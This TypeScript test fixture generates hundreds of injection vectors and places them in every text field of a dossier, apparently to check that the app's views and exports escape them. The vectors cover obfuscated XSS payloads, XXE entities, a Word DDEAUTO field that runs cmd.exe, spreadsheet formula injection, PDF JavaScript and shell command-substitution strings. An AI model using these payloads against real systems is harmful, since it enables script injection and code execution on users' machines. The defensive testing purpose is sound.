import type { Dossier } from '#core/model/dossier';
import { buildDossier } from './dossier';
import {
  buildActor,
  buildCitation,
  buildClaim,
  buildEvent,
  buildFigure,
  buildSource,
  buildTrack,
  buildView,
} from './records';
import { hostileLines } from './hostile';

/** Says that a script ran, in every way that a test can notice: a variable, a dialog and a request. */
const act = (trap: string) => `globalThis.scriptRan=1;alert(1);fetch('${trap}/script')`;

/**
 * Markup, links and commands for the programs that what Parley writes may end up in. Each would run a script, or make a
 * request to `trap` (an address such as http://127.0.0.1:1234), where a view or an export did not take it for plain text.
 * Each is one line of at most 1,000 characters.
 */
export function markupVectors(trap: string): readonly string[] {
  const script = act(trap);
  const handlers = [
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onmouseover',
    'onanimationstart',
    'onpointerenter',
    'onbegin',
  ];
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'javascript\t:',
    'java&#x0A;script:',
    'java&Tab;script&colon;',
    '&#106;avascript:',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A',
    'javascript&#58;',
    '\u200bjavascript:',
    '\u00a0javascript:',
    'javascript://example.org/%0a',
    'vbscript:',
    'view-source:javascript:',
    'feed:javascript:',
    'blob:javascript:',
  ];
  const data = `data:text/html,<script>${script}</script>`;
  return [
    // Scripts and elements that run or fetch.
    `<script>${script}</script>`,
    `<SCRIPT>${script}</SCRIPT>`,
    `<scr<script>ipt>${script}</script>`,
    `<script/src="${trap}/a.js"></script>`,
    `<script src=${trap}/a.js>`,
    `<script type=module>import '${trap}/a.js'</script>`,
    `<script>${script}//`,
    `</script><script>${script}</script>`,
    `</title><script>${script}</script>`,
    `</style><script>${script}</script>`,
    `</textarea><script>${script}</script>`,
    `</noscript><script>${script}</script>`,
    `--><script>${script}</script><!--`,
    `]]><script>${script}</script><![CDATA[`,
    `<![CDATA[><script>${script}</script>]]>`,
    `<?xml-stylesheet href="${trap}/a.xsl"?>`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${trap}/x">]>&x;`,
    `<!ENTITY % x SYSTEM "${trap}/x.dtd"> %x;`,
    `<!--[if IE]><script>${script}</script><![endif]-->`,
    ...handlers.map((handler) => `<img src=x ${handler}="${script}">`),
    ...handlers.map((handler) => `" ${handler}="${script}" autofocus x="`),
    ...handlers.map((handler) => `' ${handler}='${script.replaceAll("'", '`')}' autofocus x='`),
    `<svg onload="${script}">`,
    `<svg/onload=${script}>`,
    `<svg><script>${script}</script></svg>`,
    `<svg><script href="${trap}/a.js"/></svg>`,
    `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${script}</script></svg>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${script}</script>"></iframe></foreignObject></svg>`,
    `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${script}"/></foreignObject></svg>`,
    `<svg><image href="${trap}/a.png"/></svg>`,
    `<svg><style>@import url(${trap}/a.css);</style></svg>`,
    `<svg><set attributeName=href to=javascript:${script}>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${script}</handler></svg>`,
    `</text></svg><script>${script}</script>`,
    `<math><a xlink:href="javascript:${script}">x</a></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
    `<math href="javascript:${script}">x</math>`,
    `<iframe src="javascript:${script}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`,
    `<iframe src=${trap}/frame></iframe>`,
    `<object data="${data}"></object>`,
    `<object data=${trap}/object></object>`,
    `<embed src=${trap}/embed>`,
    `<applet code=${trap}/a.class></applet>`,
    `<frameset onload="${script}"><frame src=${trap}/frame></frameset>`,
    `<base href="${trap}/">`,
    `<link rel=stylesheet href=${trap}/a.css>`,
    `<link rel=prefetch href=${trap}/prefetch>`,
    `<link rel=dns-prefetch href=${trap}>`,
    `<link rel=modulepreload href=${trap}/a.js>`,
    `<link rel=icon href=${trap}/icon>`,
    `<meta http-equiv=refresh content="0;url=${trap}/refresh">`,
    `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<form action="${trap}/form"><input type=submit autofocus onfocus=this.form.submit()></form>`,
    `<form><button formaction="javascript:${script}">x</button></form>`,
    `<isindex action="javascript:${script}">`,
    `<input autofocus onfocus="${script}">`,
    `<select autofocus onfocus="${script}">`,
    `<textarea autofocus onfocus="${script}">`,
    `<video src=${trap}/v onerror="${script}">`,
    `<video><source onerror="${script}"></video>`,
    `<video poster=${trap}/poster></video>`,
    `<audio src=${trap}/a autoplay>`,
    `<details open ontoggle="${script}">`,
    `<marquee onstart="${script}">x</marquee>`,
    `<body onload="${script}">`,
    `<body background=${trap}/background>`,
    `<table background=${trap}/table><td>x</table>`,
    `<img src=${trap}/img>`,
    `<img srcset="${trap}/set 1x">`,
    `<picture><source srcset=${trap}/source><img></picture>`,
    `<img src="x" id=scriptRan name=scriptRan>`,
    `<a id=parley name=parley href="${trap}/clobber">x</a>`,
    `<portal src=${trap}/portal></portal>`,
    `<template shadowrootmode=open><script>${script}</script></template>`,
    `<xss style="animation-name:x" onanimationend="${script}"></xss>`,
    `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
    // Links, by every trick to hide what they are.
    ...schemes.map((scheme) => `<a href="${scheme}${script}">x</a>`),
    ...schemes.slice(0, 8).map((scheme) => `[x](${scheme}alert(1))`),
    `<a href="${data}">x</a>`,
    `<a href="${trap}/ping" ping="${trap}/ping">x</a>`,
    `<a href="file:///etc/passwd">x</a>`,
    `<area shape=default href="javascript:${script}">`,
    // Style.
    `<style>@import url(${trap}/a.css)</style>`,
    `<style>*{background:url(${trap}/background)}</style>`,
    `<div style="background:url(${trap}/inline)">x</div>`,
    `<div style="background:url('javascript:${script}')">x</div>`,
    `<div style="width:expression(${script})">x</div>`,
    `<div style="behavior:url(${trap}/a.htc)">x</div>`,
    `<div style="-moz-binding:url(${trap}/a.xml#x)">x</div>`,
    `;background:url(${trap}/declared);`,
    `}*{background:url(${trap}/rule)}`,
    `url(${trap}/url)`,
    `@import '${trap}/a.css';`,
    `\\75\\72\\6c(${trap}/escaped)`,
    // What templates and scripts fill in.
    `{{constructor.constructor('${script}')()}}`,
    `{@html '<img src=x onerror=${script}>'}`,
    `{#if true}<script>${script}</script>{/if}`,
    // eslint-disable-next-line no-template-curly-in-string -- It is meant as it stands: nothing may fill it in.
    '${alert(1)}',
    '<%= alert(1) %>',
    '#{alert(1)}',
    '%PARLEY_PAGE_DATA%',
    "$& $1 $` $' $$",
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;',
    '\u2028alert(1)\u2029',
    '";alert(1);//',
    "';alert(1);//",
    '`;alert(1);//',
    '</x>{"__proto__":{"scriptRan":1}}',
    // Letters that turn the line round, hide or pile up.
    '\u202E>tpircs/<)1(trela>tpircs<',
    '\u2066\u2067\u2068<script>\u2069',
    'script\u200b\u200c\u200d\ufeff',
    '＜script＞alert(1)＜/script＞',
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357',
    // Word: fields, relationships, markup of its own.
    '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>',
    `<w:fldSimple w:instr='INCLUDEPICTURE "${trap}/docx.png"'/>`,
    `{ INCLUDETEXT "${trap}/docx" }`,
    `{ HYPERLINK "javascript:alert(1)" }`,
    `<w:altChunk r:id="rId99"/>`,
    `"/><Relationship Id="x" Type="frame" Target="${trap}/rel" TargetMode="External"/>`,
    // Markdown.
    `![x](${trap}/md.png)`,
    `![x][y] [y]: ${trap}/ref.png`,
    `[x](${trap}/link "title")`,
    `<${trap}/auto>`,
    `[x]: javascript:alert(1)`,
    '[^1]: <script>alert(1)</script>',
    '```html <script>alert(1)</script> ```',
    '<!-- --> <script>alert(1)</script>',
    '| <img src=x onerror=alert(1)> | x |',
    // Spreadsheets.
    `=HYPERLINK("${trap}/csv","x")`,
    `=WEBSERVICE("${trap}/csv")`,
    `=IMPORTXML("${trap}/csv","//a")`,
    "=cmd|'/c calc'!A1",
    '+1+cmd|x!A1',
    '-1+cmd|x!A1',
    '@SUM(1+1)*cmd|x!A1',
    '\t=1+1',
    '＝1+1',
    '"=1+1',
    '",=1+1,"',
    // PDF.
    ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
    `endstream endobj 1 0 obj << /S /URI /URI (${trap}/pdf) >>`,
    // Shells and terminals, for whoever pastes.
    '$(touch x) `touch x` ; touch x | x && x',
    ...hostileLines,
  ].map((vector) => vector.slice(0, 900));
}

/** How many vectors stand in one event, so that a look at every so many of them shows each. */
export const vectorsAnEvent = 16;

/**
 * A dossier in which every text that a person can write is a vector, each on several fields. The title of event, actor and
 * source number N ends in `needleN`.
 */
export function markupDossier(trap: string): Dossier {
  const vectors = markupVectors(trap);
  const line = (index: number) => vectors[index % vectors.length] ?? '';
  const all = vectors.map((_, index) => index);
  const dossier = buildDossier({
    actors: all.map((index) =>
      buildActor({
        id: `actor-${index}`,
        name: `${line(index)} needle${index}`,
        aliases: [line(index + 1)],
        office: line(index + 2),
        identifiers: { OFAC: line(index + 3) },
        affiliations: [{ actor: `actor-${(index + 1) % all.length}`, role: line(index + 4), date: null }],
        notes: line(index + 5),
      }),
    ),
    sources: all.map((index) =>
      buildSource({
        id: `source-${index}`,
        title: `${line(index)} needle${index}`,
        publisher: line(index + 1),
        authors: [line(index + 2)],
        url: `https://example.org/?q='${index}'%22%3E%3Cscript%3E&x=javascript:alert(1)`,
        attachment: { sha256: 'a'.repeat(64), name: line(index + 3), mediaType: 'text/html', bytes: 1 },
        notes: line(index + 4),
      }),
    ),
    tracks: [0, 1, 2, 3].map((index) => buildTrack({ id: `track-${index}`, name: line(index * 7), order: index })),
    views: [0, 1].map((index) => buildView({ id: `view-${index}`, name: line(index + 20), order: index })),
    figures: [buildFigure({ id: 'figure', name: line(3), title: line(25), standfirst: line(27) })],
    events: all.map((index) => {
      const common = {
        id: `event-${index}`,
        title: `${line(index)} needle${index}`,
        label: line(index + 1),
        summary: line(index + 2),
        date: `2025-${String((index % 12) + 1).padStart(2, '0')}-${String((index % 27) + 1).padStart(2, '0')}`,
        place: { name: line(index + 3), latitude: null, longitude: null },
        tracks: [`track-${index % 4}`],
        tags: [line(index + 4)],
        participants: [{ actor: `actor-${index}`, role: line(index + 5) }],
        notes: line(index + 6),
        claims: [
          buildClaim({
            id: 'first',
            text: line(index + 7),
            citations: [
              buildCitation({
                source: `source-${index}`,
                quote: line(index + 8),
                note: line(index + 9),
                locator: line(index + 10),
              }),
              buildCitation({
                source: `source-${(index + 1) % all.length}`,
                stance: 'denies',
                quote: line(index + 11),
              }),
            ],
          }),
          buildClaim({ id: 'second', text: line(index + 12) }),
        ],
      };
      if (index % 5 === 0) {
        const provisions = [{ id: 'one', number: line(index + 13), heading: line(index + 14), text: line(index + 15) }];
        return buildEvent({ kind: 'document', ...common, version: line(index + 13), provisions });
      }
      if (index % 5 === 1) return buildEvent({ kind: 'deadline', ...common });
      if (index % 5 === 2)
        return buildEvent({ kind: 'sanction', ...common, programme: line(index + 13), legalBasis: line(index + 14) });
      if (index % 5 === 3) return buildEvent({ kind: 'waiver', ...common, scope: line(index + 13) });
      return buildEvent({ kind: 'meeting', ...common });
    }),
  });
  return { ...dossier, title: `${line(0)} talks`, description: vectors.join('\n').slice(0, 90_000) };
}
